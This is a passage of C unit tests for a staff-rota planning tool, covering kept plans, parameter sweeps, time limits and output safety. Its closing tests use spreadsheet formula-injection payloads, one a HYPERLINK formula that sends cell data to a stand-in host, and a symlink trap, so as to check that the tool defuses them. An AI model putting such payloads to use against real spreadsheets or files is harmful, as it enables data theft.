	                             "shift no longer offered\n"));
	free(text);
	tu_path(plan, sizeof(plan), "re/report.html");
	text = tu_slurp(plan);
	assert_non_null(text);
	assert_true(strstr(text, "Changes to the kept plan") <
	            strstr(text, "Red flags and unfilled shifts"));
	assert_non_null(strstr(text, "<td>Kofi Walker (bw006)</td><td>Thu 3 Dec 22:00–07:30 "
	                             "(thu-n)</td>"));
	free(text);
	/* plan.csv re-checked: every change penalty, and the past as kept */
	sc = scenario_in("sick");
	tu_path(plan, sizeof(plan), "re/plan.csv");
	tu_path(kept, sizeof(kept), "pub/plan.csv");
	tu_path(summary, sizeof(summary), "re/summary.csv");
	if (!plan_check_file(sc, plan,
	                     &(struct plan_check){.objective = objective,
	                                          .summary = summary,
	                                          .kept = kept,
	                                          .has_now = true,
	                                          .now = now},
	                     why, sizeof(why)) ||
	    !plan_check_summary(plan, summary, why, sizeof(why)))
		fail_msg("%s", why);
	mu_scenario_free(sc);

	/* run:ID is the run's plan rows: run 1 re-planned unchanged */
	r = tu_run("solve", ex, "--lp", "--db", "k.db", "--keep", "run:1", NULL);
	assert_int_equal(r.status, 0);
	assert_non_null(strstr(r.out, ", 0 changes to the kept plan\n"));
	tu_result_free(&r);
	r = tu_run("compare", "sick", "--lp", "--db", "k.db", "--keep", "run:1", NULL);
	assert_int_equal(r.status, 0);
	assert_non_null(strstr(r.out, "changes against the kept plan: "));
	tu_result_free(&r);

	/* the kept plan's errors: exit 2, at the cell */
	r = tu_run("solve", "sick", "--lp", "--db", "k.db", "--now", "2026-12-02T12:00", NULL);
	assert_int_equal(r.status, 2);
	assert_non_null(strstr(r.err, "--now needs --keep"));
	tu_result_free(&r);
	/* --now also takes a space for the T, as a spreadsheet or a person writes it */
	r = tu_run("solve", "sick", "--lp", "--db", "k.db", "--keep", "pub/plan.csv", "--now",
	           "2026-12-02 12:00", NULL);
	assert_int_equal(r.status, 0);
	assert_non_null(strstr(r.out, " changes to the kept plan (1 forced)"));
	assert_true(headline_cost(r.out) == objective);
	tu_result_free(&r);
	r = tu_run("solve", "sick", "--lp", "--db", "k.db", "--keep", "pub/plan.csv", "--now",
	           "2026-12-02 24:00", NULL);
	assert_int_equal(r.status, 2);
	assert_non_null(strstr(r.err, "invalid --now '2026-12-02 24:00' (YYYY-MM-DDTHH:MM or "
	                              "YYYY-MM-DD HH:MM, e.g. 2026-03-04T12:00)"));
	tu_result_free(&r);
	tu_path(plan, sizeof(plan), "bad.csv");
	fp = fopen(plan, "wb");
	assert_non_null(fp);
	fprintf(fp, "%sbank,acute_north,rn_b5,rn_b5,mon-e,acute_north,bw001,,x,7.5,1,0\n", header);
	fclose(fp);
	r = tu_run("solve", "sick", "--lp", "--db", "k.db", "--keep", "bad.csv", NULL);
	assert_int_equal(r.status, 2);
	assert_non_null(strstr(r.err, "bad.csv:2:9: invalid staff 'x' (a number above 0)"));
	tu_result_free(&r);
	tu_path(plan, sizeof(plan), "other.csv");
	fp = fopen(plan, "wb");
	assert_non_null(fp);
	fprintf(fp, "%sbank,acute_north,rn_b5,rn_b5,mon-e,acute_north,nobody,,1,7.5,1,0\n", header);
	fclose(fp);
	r = tu_run("solve", "sick", "--lp", "--db", "k.db", "--keep", "other.csv", NULL);
	assert_int_equal(r.status, 2);
	assert_non_null(strstr(r.err, "other.csv:2:7: unknown bank worker 'nobody': the kept "
	                              "plan is not of this scenario"));
	tu_result_free(&r);
	/* a bank worker is one person; one row per assignment */
	fp = fopen(plan, "wb");
	assert_non_null(fp);
	fprintf(fp, "%sbank,acute_north,rn_b5,rn_b5,mon-e,acute_north,bw001,,3,22.5,1,0\n", header);
	fclose(fp);
	r = tu_run("solve", "sick", "--lp", "--db", "k.db", "--keep", "other.csv", NULL);
	assert_int_equal(r.status, 2);
	assert_non_null(strstr(r.err, "other.csv:2:9: bank worker 'bw001' is 3 staff on shift "
	                              "'mon-e': a worker is one person (staff at most 1)"));
	tu_result_free(&r);
	fp = fopen(plan, "wb");
	assert_non_null(fp);
	fprintf(fp,
	        "%sbank,acute_north,rn_b5,rn_b5,mon-e,acute_north,bw001,,1,7.5,1,0\n"
	        "bank,acute_north,rn_b5,rn_b5,mon-e,acute_north,bw001,,1,7.5,1,0\n",
	        header);
	fclose(fp);
	r = tu_run("solve", "sick", "--lp", "--db", "k.db", "--keep", "other.csv", NULL);
	assert_int_equal(r.status, 2);
	assert_non_null(strstr(r.err, "other.csv:3:1: the same assignment as line 2"));
	tu_result_free(&r);
	r = tu_run("solve", "sick", "--lp", "--db", "k.db", "--keep", "run:99", NULL);
	assert_int_equal(r.status, 2);
	tu_result_free(&r);
	/* a past the scenario as it now reads cannot hold (bw001 worked Monday
	 * and Tuesday, then max_hours is cut to one shift): said, exit 2 */
	edited_example("cut", "sed -i 's/^bw001,Nia Roberts,rn_b5,acute_north,22.5,/"
	                      "bw001,Nia Roberts,rn_b5,acute_north,7.5,/' bank.csv");
	r = tu_run("solve", "cut", "--lp", "--db", "k.db", "--keep", "pub/plan.csv", "--now",
	           "2026-12-02T12:00", NULL);
	assert_int_equal(r.status, 2);
	/* issue 24, 9d: the kept plan.csv rows whose past cannot hold, named */
	if (!strstr(r.err, "pub/plan.csv:540: the kept past cannot hold: bank worker bw001 worked "
	                   "15 hours before --now (plan.csv lines 540, 541: mon-e, tue-e), above "
	                   "max_hours 7.5 in bank.csv as it now reads; put max_hours back to at "
	                   "least 15, or give an earlier --now"))
		fail_msg("%s", r.err);
	tu_result_free(&r);
	/* without --now the past is free: the same cut is re-planned */
	r = tu_run("solve", "cut", "--lp", "--db", "k.db", "--keep", "pub/plan.csv", NULL);
	assert_true(r.status == 0 || r.status == 3); /* 3: the cut leaves red flags */
	tu_result_free(&r);
}

static void test_cli_sweep_points_match_single_solves(void **state)
{
	struct tu_result r;
	char path[400], *svg;
	double point;
	(void)state;
	r = tu_run("sweep", getenv("MUSTER_EXAMPLE_DIR"), "--lp", "--vary",
	           "agency_cap.rn_b5=25:35:5", "--vary", "staff.hospice.rn_b5=0:1:1", "--out", "sw",
	           "--db", "w.db", NULL);
	assert_int_equal(r.status, 0);
	/* with supply.csv a higher agency cap both fills more and spends less:
	 * agency staff at up to £30 stand in for bank staff whose rate would
	 * rise to the bank cap for every one on the shift */
	assert_non_null(strstr(r.out, "Fill rises from "));
	assert_non_null(strstr(r.out, "; up to there spend falls from "));
	tu_path(path, sizeof(path), "sw/sweep.csv");
	assert_int_equal(count_lines(path), 1 + 6);
	tu_result_free(&r);

	/* the point at a cap of 35, as a scenario with that cap solved alone */
	edited_example("cap35", "sed -i 's/^rn_b5,\\([0-9.]*\\),[0-9.]*,/rn_b5,\\1,35,/' caps.csv");
	r = tu_run("solve", "cap35", "--lp", "--db", "w.db", NULL);
	point = csv_value(path, "35,0,", 5);
	if (!(fabs(point - headline_cost(r.out)) < 0.01))
		fail_msg("sweep %.2f, solve %.2f", point, headline_cost(r.out));
	tu_result_free(&r);
	/* and one more hospice band 5 nurse on every shift, at a cap of 25 */
	edited_example("recruit",
	               "sed -i 's/^rn_b5,\\([0-9.]*\\),[0-9.]*,/rn_b5,\\1,25,/' caps.csv && "
	               "awk -F, 'BEGIN { OFS = \",\" } $1 == \"hospice\" && $2 == "
	               "\"rn_b5\" { $4 += 1 } { print }' staff.csv > s && mv s staff.csv");
	r = tu_run("solve", "recruit", "--lp", "--db", "w.db", NULL);
	point = csv_value(path, "25,1,", 5);
	if (!(fabs(point - headline_cost(r.out)) < 0.01))
		fail_msg("sweep %.2f, solve %.2f", point, headline_cost(r.out));
	tu_result_free(&r);

	tu_path(path, sizeof(path), "sw/sweep.svg");
	svg = tu_slurp(path);
	assert_non_null(strstr(svg, "extra spend stops buying fill"));
	/* spend and penalties apart: the money axis carries only money */
	assert_non_null(strstr(svg, ">spend (\xc2\xa3, cash)<"));
	assert_non_null(strstr(svg, ">penalties (weights, not money)<"));
	assert_null(strstr(svg, "cost"));
	free(svg);
	tu_path(path, sizeof(path), "sw/report.html");
	svg = tu_slurp(path);
	assert_non_null(strstr(svg, "penalties are weights, not money"));
	assert_non_null(strstr(svg, "<th>spend</th><th>penalties</th>"));
	free(svg);
	/* the six runs are one sweep's, each with its values */
	r = tu_run("show", "6", "--db", "w.db", NULL);
	assert_int_equal(r.status, 0);
	assert_non_null(strstr(r.out, "sweep 1, at:"));
	assert_non_null(strstr(r.out, "staff.hospice.rn_b5"));
	tu_result_free(&r);
}

/* A rota sweep stopped by its time limit prints each point's gap, the one
 * stored with its run. */
static void test_cli_sweep_table_shows_the_gap(void **state)
{
	const char *ex = getenv("MUSTER_EXAMPLE_DIR");
	const char *const args[] = {
	    "sweep", ex,     "--silo", "--time-limit", "1", "--vary", "agency_cap.rn_b5=30:35:5",
	    "--db",  "g.db", NULL};
	struct tu_result r;
	const char *line;
	double printed, stored;
	(void)state;
	r = run_with_time_limit(args, "g.db");
	assert_int_equal(r.status, 3); /* the silo plans leave red flags */
	assert_non_null(strstr(r.out, " status "));
	/* the first point's line follows the header */
	line = strchr(strstr(r.out, " status "), '\n');
	assert_non_null(line);
	assert_int_equal(sscanf(line, " %lg", &printed), 1);
	assert_true(printed == 30);
	printed = stated_gap(strstr(line, " 30 ") + strlen(" 30 "));
	tu_result_free(&r);
	r = tu_run("show", "1", "--db", "g.db", NULL);
	line = strstr(r.out, "gap ");
	assert_non_null(line);
	assert_int_equal(sscanf(line, "gap %lf%%", &stored), 1);
	assert_true(stored > 0);
	/* the table rounds up to two significant digits; show has four decimals */
	assert_true(printed >= stored - 0.0001);
	assert_true(printed <= 1.1 * stored + 0.0011);
	tu_result_free(&r);
	/* runs lists both points as the sweep's */
	r = tu_run("runs", "--db", "g.db", NULL);
	assert_non_null(strstr(r.out, " sweep "));
	line = strstr(r.out, "\n    2  ");
	assert_non_null(line);
	assert_non_null(strstr(line, "rota+silo      1  feasible"));
	tu_result_free(&r);
}

static void test_cli_sweep_refuses_what_it_cannot_vary(void **state)
{
	struct tu_result r;
	char db[400];
	(void)state;
	r = tu_run("sweep", getenv("MUSTER_EXAMPLE_DIR"), "--vary", "agency_cap.nobody=1:2:1",
	           "--db", "bad.db", NULL);
	assert_int_equal(r.status, 2);
	assert_non_null(strstr(r.err, "unknown role 'nobody'"));
	tu_result_free(&r);
	r = tu_run("sweep", getenv("MUSTER_EXAMPLE_DIR"), "--vary", "demand=1:2:1", "--vary",
	           "demand.hospice=1:2:1", "--db", "bad.db", NULL);
	assert_int_equal(r.status, 2);
	assert_non_null(strstr(r.err, "set the same thing"));
	tu_result_free(&r);
	r = tu_run("sweep", getenv("MUSTER_EXAMPLE_DIR"), "--db", "bad.db", NULL);
	assert_int_equal(r.status, 2);
	assert_non_null(strstr(r.err, "nothing to vary"));
	tu_result_free(&r);
	tu_path(db, sizeof(db), "bad.db");
	assert_int_not_equal(access(db, F_OK), 0);
}

/* Issue 25: a sweep of a scenario without supply (DESIGN.md §3d) prints
 * and writes exactly what it did before: no rate or extra staff column,
 * no sentence on a cap. */
static void test_cli_sweep_without_supply_is_as_before(void **state)
{
	struct tu_result r;
	char path[400], *text;
	(void)state;
	r = tu_run("sweep", fixed_supply_example("plain-ex"), "--lp", "--vary", "demand=1:1.1:0.1",
	           "--out", "plain-sw", "--db", "plain.db", NULL);
	assert_true(r.status == 0 || r.status == 3); /* 3: 10% more demand leaves red flags */
	assert_non_null(strstr(r.out,
	                       "  demand status           spend      penalties     fill  red "
	                       " agency spend  agency h  unfilled\n"));
	assert_null(strstr(r.out, "rate lo"));
	assert_null(strstr(r.out, "A higher"));
	tu_result_free(&r);
	tu_path(path, sizeof(path), "plain-sw/sweep.csv");
	text = tu_slurp(path);
	assert_int_equal(strncmp(text,
	                         "demand,run,status,objective,gap,fill_fraction,red_flags,"
	                         "unfilled_hours,own_hours,lend_hours,bank_hours,agency_hours,"
	                         "bank_spend,lend_spend,agency_spend,unfilled_penalty,"
	                         "break_glass_staff_shifts,spend,penalties\n1,1,optimal,",
	                         strlen("demand,run,status,objective,gap,fill_fraction,red_flags,"
	                                "unfilled_hours,own_hours,lend_hours,bank_hours,agency_"
	                                "hours,bank_spend,lend_spend,agency_spend,unfilled_"
	                                "penalty,break_glass_staff_shifts,spend,penalties\n1,1,"
	                                "optimal,")),
	                 0);
	free(text);
	tu_path(path, sizeof(path), "plain-sw/report.html");
	text = tu_slurp(path);
	assert_non_null(strstr(text, "<th>unfilled h</th><th>run</th>"));
	assert_null(strstr(text, "rate paid"));
	free(text);
}

/* The example with only band 5 nurses' bank supply answering the rate
 * (elasticity 0.3: supply.csv's other rows removed, and their bank caps)
 * and a bank cap of cap in caps.csv. */
static void supply_example(const char *name, const char *cap)
{
	char edit[900];
	snprintf(
	    edit, sizeof(edit),
	    "printf 'role,elasticity,reference_rate,step\\nrn_b5,0.3,,0.05\\n' > supply.csv && "
	    "awk -F, 'BEGIN { OFS = \",\" } NR > 1 { $4 = $1 == \"rn_b5\" ? \"%s\" : \"\" } "
	    "{ print }' caps.csv > c && mv c caps.csv",
	    cap);
	edited_example(name, edit);
}

/* plan.csv at path: the bank_extra rows' staff, and the lowest and
 * highest rate of its rate rows (NAN without one) and on how many shifts
 * (a shared curve's rate has a row at each partner where its staff work). */
static double plan_extra_and_rates(const char *path, double *lo, double *hi, size_t *n_rates)
{
	char *text = tu_slurp(path), *line;
	double extra = 0;
	struct mu_buf seen;
	mu_buf_init(&seen);
	*lo = HUGE_VAL;
	*hi = -HUGE_VAL;
	*n_rates = 0;
	for (line = text; line && *line; line = strchr(line, '\n'), line = line ? line + 1 : NULL) {
		const char *c = line;
		int k;
		bool is_extra = strncmp(line, "bank_extra,", 11) == 0;
		bool is_rate = strncmp(line, "rate,", 5) == 0;
		if (!is_extra && !is_rate)
			continue;
		for (k = 1; k < (is_extra ? 9 : 8) && c; k++)
			c = (c = strchr(c, ',')) ? c + 1 : NULL;
		assert_non_null(c);
		if (is_extra) {
			extra += strtod(c, NULL);
		} else {
			/* the shift: the fifth cell, one role (rn_b5) swept */
			const char *sh = line;
			char key[80];
			for (k = 1; k < 5 && sh; k++)
				sh = (sh = strchr(sh, ',')) ? sh + 1 : NULL;
			assert_non_null(sh);
			snprintf(key, sizeof(key), "|%.*s|", (int)strcspn(sh, ","), sh);
			*lo = fmin(*lo, strtod(c, NULL));
			*hi = fmax(*hi, strtod(c, NULL));
			if (!strstr(seen.data ? seen.data : "", key)) {
				mu_buf_adds(&seen, key);
				(*n_rates)++;
			}
		}
	}
	mu_buf_release(&seen);
	free(text);
	return extra;
}

/* Issue 25: a bank cap sweep shows the rate paid, the extra staff and
 * where a higher cap stops buying fill; each point's figures are those
 * of the scenario with that cap solved alone. */
static void test_cli_sweep_bank_cap_shows_rate_and_extra_staff(void **state)
{
	struct tu_result r;
	char path[400], plan[400], dir[400], *text;
	double lo, hi, extra;
	size_t n_rates, n_shifts;
	(void)state;
	supply_example("capsw", "20.00");
	tu_path(dir, sizeof(dir), "capsw");
	r = tu_run("sweep", dir, "--lp", "--vary", "bank_cap.rn_b5=15.5:23.5:4", "--out",
	           "capsw-out", "--db", "cs.db", NULL);
	assert_int_equal(r.status, 0);
	assert_non_null(strstr(r.out, " unfilled   rate lo   rate hi    extra\n"));
	assert_non_null(strstr(r.out, " A higher bank_cap.rn_b5 "));
	assert_non_null(strstr(r.out, "in cash per extra filled hour, "));
	tu_result_free(&r);
	tu_path(path, sizeof(path), "capsw-out/sweep.csv");
	text = tu_slurp(path);
	assert_non_null(strstr(text, ",spend,penalties,rate_lowest,rate_highest,extra_staff\n"));
	free(text);
	tu_path(path, sizeof(path), "capsw-out/report.html");
	text = tu_slurp(path);
	assert_non_null(strstr(text, "<th>rate paid, lowest (\xc2\xa3/h)</th>"));
	free(text);
	/* the top point, solved alone */
	supply_example("cap235", "23.50");
	r = tu_run("solve", "cap235", "--lp", "--db", "cs.db", "--out", "cap235-out", NULL);
	assert_true(r.status == 0);
	tu_path(path, sizeof(path), "capsw-out/sweep.csv");
	assert_true(fabs(csv_value(path, "23.5,", 4) - headline_cost(r.out)) < 0.01);
	tu_result_free(&r);
	tu_path(plan, sizeof(plan), "cap235-out/plan.csv");
	extra = plan_extra_and_rates(plan, &lo, &hi, &n_rates);
	assert_true(extra > 0 && n_rates > 0);
	assert_true(fabs(csv_value(path, "23.5,", 22) - extra) <= 1e-5 * extra);
	assert_true(fabs(csv_value(path, "23.5,", 21) - hi) < 0.005);
	/* a shift without a rate row pays bank_rate, 15.33 */
	tu_path(plan, sizeof(plan), "capsw/shifts.csv");
	n_shifts = count_lines(plan) - 1;
	assert_true(fabs(csv_value(path, "23.5,", 20) - (n_rates < n_shifts ? 15.33 : lo)) < 0.005);
	assert_true(hi <= 23.5 + 1e-9);
}

/* Issue 25: what a bank cap sweep could not show, or a point caps.csv's
 * reader would refuse, is refused before anything is solved or
 * recorded. */
static void test_cli_sweep_refuses_a_cap_that_does_nothing(void **state)
{
	struct tu_result r;
	char db[400], dir[400];
	const char *ex = fixed_supply_example("nocap-ex");
	(void)state;
	r = tu_run("sweep", ex, "--lp", "--vary", "bank_cap.rn_b5=16:20:1", "--db", "nocap.db",
	           NULL);
	assert_int_equal(r.status, 2);
	assert_non_null(strstr(r.err, "--vary bank_cap.rn_b5: role 'rn_b5' has fixed bank supply "
	                              "(no row in supply.csv), so its bank cap changes nothing"));
	tu_result_free(&r);
	r = tu_run("sweep", ex, "--lp", "--vary", "rate_card=0:1:1", "--db", "nocap.db", NULL);
	assert_int_equal(r.status, 2);
	assert_non_null(strstr(r.err, "every role's bank supply is fixed"));
	tu_result_free(&r);
	supply_example("caplow", "20.00");
	tu_path(dir, sizeof(dir), "caplow");
	r = tu_run("sweep", dir, "--lp", "--vary", "bank_cap.rn_b5=15:20:1", "--db", "nocap.db",
	           NULL);
	assert_int_equal(r.status, 2);
	assert_non_null(strstr(r.err, "at the point bank_cap.rn_b5 = 15, bank_cap 15 of role "
	                              "'rn_b5' is below its bank_rate 15.33"));
	tu_result_free(&r);
	tu_path(db, sizeof(db), "nocap.db");
	assert_int_not_equal(access(db, F_OK), 0);
}

static void test_cli_time_limit_marks_the_rota_not_proven(void **state)
{
	const char *ex = getenv("MUSTER_EXAMPLE_DIR");
	const char *const args[] = {"solve", ex,     "--silo", "--time-limit", "1",
	                            "--db",  "t.db", "--out",  "silo",         NULL};
	struct tu_result r;
	char path[400], *html;
	(void)state;
	/* the silo rota of the example is not proven in minutes */
	r = run_with_time_limit(args, "t.db");
	assert_int_equal(r.status, 3); /* the silo plan leaves red flags */
	assert_non_null(strstr(r.out, "not proven optimal"));
	/* never "feasible" or "0.0%" to people, whatever the gap */
	assert_null(strstr(r.out, "feasible"));
	stated_gap(strstr(r.out, "rota (silo): ") + strlen("rota (silo): "));
	check_outputs("silo", true, true, headline_cost(r.out));
	tu_path(path, sizeof(path), "silo/report.html");
	html = tu_slurp(path);
	stated_gap(strstr(html, "best found, within "));
	assert_null(strstr(html, "feasible"));
	free(html);
	tu_result_free(&r);
	r = tu_run("show", "1", "--db", "t.db", NULL);
	assert_non_null(strstr(r.out, "status     feasible")); /* the store's word stays */
	tu_result_free(&r);
}

/* Spawns muster with args, its output in out_path and err_path, and sends
 * it Ctrl-C once it has used 1.5 s of CPU (its search is then under way,
 * whatever the machine's load: the silo rota of the example is not proven
 * in minutes). Its pid. */
static pid_t interrupt_search(const char *const *args, const char *out_path, const char *err_path)
{
	int status;
	pid_t pid = tu_spawn(&(struct tu_child){0}, args, out_path, err_path);
	while (tu_cpu_seconds(pid) < 1.5) {
		if (tu_has_ended(pid, &status))
			fail_msg("muster ended (wait status %d) before it was interrupted", status);
		usleep(10 * 1000);
	}
	kill(pid, SIGINT);
	return pid;
}

/* Ctrl-C in a rota search keeps the best rota found: the search stops,
 * the rota is said "stopped by you" with its gap, and recorded as
 * feasible (issue 24); report.html says what stopped it too, not "its
 * limit" (issue 28). */
static void test_cli_interrupted_solve_keeps_the_best_rota(void **state)
{
	const char *args[] = {
	    "solve", getenv("MUSTER_EXAMPLE_DIR"), "--silo", "--db", "i.db", "--out", "interrupted",
	    NULL};
	char out_path[400], err_path[400];
	struct tu_result r;
	int status;
	pid_t pid;
	(void)state;
	tu_path(out_path, sizeof(out_path), "stdout");
	tu_path(err_path, sizeof(err_path), "stderr");
	pid = interrupt_search(args, out_path, err_path);
	assert_int_equal(waitpid(pid, &status, 0), pid);
	assert_true(WIFEXITED(status));
	r.status = WEXITSTATUS(status);
	r.err = tu_slurp(err_path);
	r.out = tu_slurp(out_path);
	assert_int_equal(r.status, 3); /* solved: the silo plan leaves red flags */
	assert_non_null(strstr(r.err, "interrupted"));
	assert_non_null(strstr(r.out, "(stopped by you: not proven optimal)"));
	stated_gap(strstr(r.out, "rota (silo): ") + strlen("rota (silo): "));
	tu_result_free(&r);
	{
		char path[400], *html;
		tu_path(path, sizeof(path), "interrupted/report.html");
		html = tu_slurp(path);
		assert_non_null(
		    strstr(html, " of the best possible (the search was stopped by you)."));
		assert_null(strstr(html, "stopped by its"));
		free(html);
	}
	r = tu_run("show", "1", "--db", "i.db", NULL);
	assert_int_equal(r.status, 0);
	assert_non_null(strstr(r.out, "status     feasible"));
	tu_result_free(&r);
}

static void test_cli_failed_solve_records_nothing(void **state)
{
	struct tu_result r;
	(void)state;
	r = tu_run("solve", getenv("MUSTER_EXAMPLE_DIR"), "--lp", "--db", "f.db", "--out",
	           "/proc/no/such/dir", NULL);
	assert_int_equal(r.status, 1);
	assert_non_null(strstr(r.err, "cannot write"));
	tu_result_free(&r);
	r = tu_run("runs", "--db", "f.db", NULL);
	assert_int_equal(r.status, 2);
	tu_result_free(&r);
}

/* --- outputs: formula injection, safe writing, the --out preflight,
 * terminal safety (issue 15, points 3, 5, 6 and 11) --- */

/* Writes the len bytes of text as tu_dir()/dir/name. */
static void write_in(const char *dir, const char *name, const char *text, size_t len)
{
	char path[600];
	snprintf(path, sizeof(path), "%s/%s/%s", tu_dir(), dir, name);
	tu_write(path, text, len);
}

/* Writes the NULL-terminated {name, text} pairs as files of tu_dir()/dir. */
static void write_scenario(const char *dir, const char *const *files)
{
	char path[400];
	size_t i;
	tu_path(path, sizeof(path), dir);
	mkdir(path, 0777);
	for (i = 0; files[i]; i += 2)
		write_in(dir, files[i], files[i + 1], strlen(files[i + 1]));
}

/* A small system whose every id begins with '-' (a valid identifier: `-A1`
 * is also a formula) and whose every name is a formula; it has lending,
 * bank, agency and a short row, so that every output has rows. */
static const char *const formula_scenario[] = {
    "partners.csv",
    "id,name,kind\n"
    "-A1,\"=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\",acute\n"
    "-B2,+SUM(1+1),community\n",
    "roles.csv",
    "id,name,group,band\n-R1,-2+3,registered_nursing,@SUM(1)\n",
    "shifts.csv",
    "id,date,start,end,paid_hours,enhancement\n"
    "-S1,2026-11-30,07:00,15:00,8,0\n-S2,2026-11-30,15:00,23:00,8,0.3\n",
    "demand.csv",
    "partner,role,shift,required,minimum,priority\n"
    "-A1,-R1,-S1,5,2,1\n-A1,-R1,-S2,5,2,1\n-B2,-R1,-S1,2,1,1\n-B2,-R1,-S2,9,1,1\n",
    "staff.csv",
    "partner,role,shift,available,rotatable\n"
    "-A1,-R1,-S1,2,0\n-B2,-R1,-S1,4,2\n-B2,-R1,-S2,1,1\n",
    "bank.csv",
    "id,name,role,home,max_hours,partners\n-W1,@SUM(1),-R1,-A1,48,*\n-W2,=1+1,-R1,-B2,48,\n",
    "availability.csv",
    "worker,shift\n-W1,-S1\n-W2,-S2\n",
    "agency.csv",
    "supplier,tier,framework,role,partner,rate,capacity\n-AG,1,yes,-R1,*,60,1\n",
    "agreements.csv",
    "from,to,role,max_per_shift,travel_cost,recharge_rate\n-B2,-A1,*,2,10,20\n",
    "caps.csv",
    "role,bank_rate,agency_cap\n-R1,25,80\n",
    NULL};

/* True when cell is a number as muster writes one ("-12.5"). */
static bool is_number_cell(const char *cell)
{
	char *end;
	if (!*cell)
		return false;
	strtod(cell, &end);
	return *end == '\0';
}

struct csv_walk {
	size_t n_files, n_cells, n_quoted;
};

/* Reads every CSV file under dir (recursively) and fails on a cell that a
 * spreadsheet would run: one beginning with =, +, -, @, a tab or a CR that
 * is not a number. */
static void check_no_formula_cells(const char *dir, struct csv_walk *w)
{
	DIR *d = opendir(dir);
	struct dirent *e;
	assert_non_null(d);
	while ((e = readdir(d)) != NULL) {
		char path[1024];
		struct stat st;
		size_t n = strlen(e->d_name), i;
		if (strcmp(e->d_name, ".") == 0 || strcmp(e->d_name, "..") == 0)
			continue;
		snprintf(path, sizeof(path), "%s/%s", dir, e->d_name);
		assert_int_equal(lstat(path, &st), 0);
		if (S_ISDIR(st.st_mode)) {
			check_no_formula_cells(path, w);
		} else if (n > 4 && strcmp(e->d_name + n - 4, ".csv") == 0) {
			char *text = tu_slurp(path);
			struct io_csv_table *t = NULL;
			struct mu_err err;
			assert_int_equal(io_csv_read(path, text, strlen(text), &t, &err), MU_OK);
			w->n_files++;
			for (i = 0;
			     i < t->rows[t->n_rows - 1].first + t->rows[t->n_rows - 1].n_cells;
			     i++) {
				const char *cell = io_csv_cell_text(t, &t->cells[i]);
				w->n_cells++;
				w->n_quoted += cell[0] == '\'';
				if (strchr("=+-@\t\r", cell[0]) && cell[0] && !is_number_cell(cell))
					fail_msg("%s:%lu: cell '%s' would run as a formula", path,
					         t->cells[i].line, cell);
			}
			io_csv_table_free(t);
			free(text);
		}
	}
	closedir(d);
}

/* Point 3: whatever the names and ids, no CSV muster writes holds a cell
 * that a spreadsheet runs as a formula (DESIGN.md §4): solve (rota and
 * plan, partners' files included), compare and sweep. */
static void test_cli_no_csv_cell_runs_as_a_formula(void **state)
{
	static const char *const runs[][12] = {
	    {"solve", "fx", "--out", "fx-rota", "--db", "fx.db", NULL},
	    {"solve", "fx", "--lp", "--out", "fx-plan", "--db", "fx.db", NULL},
	    {"compare", "fx", "--lp", "--out", "fx-compare", "--db", "fx.db", NULL},
	    {"sweep", "fx", "--lp", "--vary", "agency_cap.-R1=50:70:20", "--out", "fx-sweep",
	     "--db", "fx.db", NULL},
	};
	struct csv_walk w = {0, 0, 0};
	char path[400], *text;
	size_t k;
	(void)state;
	write_scenario("fx", formula_scenario);
	for (k = 0; k < sizeof(runs) / sizeof(runs[0]); k++) {
		const char *const *a = runs[k];
		struct tu_result r =
		    tu_run(a[0], a[1], a[2], a[3], a[4], a[5], a[6], a[7], a[8], a[9], a[10], NULL);
		if (r.status != 0 && r.status != 3)
			fail_msg("muster %s exited %d: %s", a[0], r.status, r.err);
		tu_result_free(&r);
	}
	tu_path(path, sizeof(path), "fx-rota");
	check_no_formula_cells(path, &w);
	tu_path(path, sizeof(path), "fx-plan");
	check_no_formula_cells(path, &w);
	tu_path(path, sizeof(path), "fx-compare");
	check_no_formula_cells(path, &w);
	tu_path(path, sizeof(path), "fx-sweep");
	check_no_formula_cells(path, &w);
	/* plan, summary, why, rota and partners' plan and rota (2 each); plan,
	 * summary, why, prices and partners' plans; compare, and system and silo
	 * folders of their own; sweep */
	assert_true(w.n_files >= 20);
	assert_true(w.n_quoted > 100);
	/* the prefix keeps the text whole after it */
	tu_path(path, sizeof(path), "fx-rota/summary.csv");
	text = tu_slurp(path);
	assert_non_null(strstr(text, "'-A1,\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\""));
	assert_non_null(strstr(text, "'-B2,'+SUM(1+1),"));
	free(text);
	tu_path(path, sizeof(path), "fx-rota/rota.csv");
	text = tu_slurp(path);
	assert_non_null(strstr(text, "'-W1,'@SUM(1),'-R1,'-A1,"));
	free(text);
}

/* tu_dir()/dir/name's bytes, or NULL when there is no such file. */
static char *file_or_null(const char *dir, const char *name)
{
	char path[400];
	snprintf(path, sizeof(path), "%s/%s/%s", tu_dir(), dir, name);
	return tu_read(path, NULL);
}

/* The number of hidden temporaries (".NAME.*.tmp") left in tu_dir()/dir. */
static size_t count_temporaries(const char *dir)
{
	char path[400];
	struct dirent *e;
	size_t n = 0;
	DIR *d;
	tu_path(path, sizeof(path), dir);
	d = opendir(path);
	assert_non_null(d);
	while ((e = readdir(d)) != NULL)
		n += e->d_name[0] == '.' && strstr(e->d_name, ".tmp") != NULL;
	closedir(d);
	return n;
}

/* The folders staged beside tu_dir()/out (io_outputs_begin) that hold
 * sub (NULL: any). */
static size_t count_staged_with(const char *out, const char *sub)
{
	char prefix[200], path[800];
	struct dirent *e;
	size_t n = 0;
	DIR *d = opendir(tu_dir());
	assert_non_null(d);
	snprintf(prefix, sizeof(prefix), ".%s.muster-", out);
	while ((e = readdir(d)) != NULL) {
		if (strncmp(e->d_name, prefix, strlen(prefix)) != 0)
			continue;
		snprintf(path, sizeof(path), "%s/%s/%s", tu_dir(), e->d_name, sub ? sub : "");
		n += access(path, F_OK) == 0;
	}
	closedir(d);
	return n;
}

static size_t count_staged(const char *out)
{
	return count_staged_with(out, NULL);
}

/* Point 5: `ln -s victim out/summary.csv` leaves victim as it was (the
 * link is replaced by the file), and a dangling link makes no file where
 * it points. */
static void test_cli_out_never_writes_through_a_link(void **state)
{
	char victim[400], link[400], dangling[400], target[400], *text;
	struct stat st;
	struct tu_result r;
	FILE *fp;
	(void)state;
	write_scenario("lk-sc", formula_scenario);
	tu_path(victim, sizeof(victim), "victim");
	tu_path(link, sizeof(link), "lk");
	mkdir(link, 0777);
	fp = fopen(victim, "wb");
	assert_non_null(fp);
	fputs("victim\n", fp);
	fclose(fp);
	tu_path(link, sizeof(link), "lk/summary.csv");
	assert_int_equal(symlink(victim, link), 0);
	tu_path(dangling, sizeof(dangling), "lk/plan.csv");
	tu_path(target, sizeof(target), "made-through-link");
	assert_int_equal(symlink(target, dangling), 0);
